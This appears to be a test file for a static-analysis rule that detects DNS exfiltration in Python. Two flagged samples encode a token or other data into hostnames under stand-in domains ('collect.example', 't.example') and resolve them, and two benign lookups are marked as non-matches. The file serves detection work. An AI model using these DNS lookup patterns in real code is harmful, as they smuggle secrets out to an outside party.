import socket
# ruleid: py-dns-exfil
socket.gethostbyname(f'{token}.collect.example')

import dns.resolver
# ruleid: py-dns-exfil
dns.resolver.resolve(encoded + '.t.example', 'TXT')

import socket
# ok: py-dns-exfil
socket.gethostbyname('localhost')

import socket
# ok: py-dns-exfil
socket.gethostbyname(host)
